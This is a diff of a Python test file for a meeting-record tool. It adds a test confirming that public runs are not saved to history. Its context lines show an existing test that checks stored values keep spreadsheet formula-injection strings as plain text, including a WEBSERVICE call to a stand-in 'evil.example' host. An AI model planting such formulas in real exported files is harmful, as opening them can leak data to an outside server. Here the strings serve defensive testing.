@@ -93,3 +93,13 @@ def test_the_history_holds_no_formula_and_reads_back_what_was_given(tmp_path: Pa
     assert kept.commitments["status"].tolist() == ['=WEBSERVICE("http://evil.example/")']
     assert kept.judgements["measure_id"].tolist() == ["@SUM(A1)"]
     assert kept.judgements["current"].tolist() == ["-3.5"]
+
+
+def test_a_public_run_is_not_recorded(tmp_path: Path) -> None:
+    # The record holds the Board's commitments and actions, and a meeting is read as its
+    # latest run: a public version must neither sit in a public folder nor replace it.
+    public = Job("vawg", "delivery_strategy", {"audience": "public"}, "VAWG", strategy="vawg")
+    overview = Job("plan-overview", "plan_overview", {}, "Overview")
+    plan = RunPlan("2026-07-public", "heading", (public, overview), "2026-07", "2026-09")
+    assert record_meeting(tmp_path, plan, _judgements("Red", 1), _dataset(), "t1") is None
+    assert not (tmp_path / "history").exists()
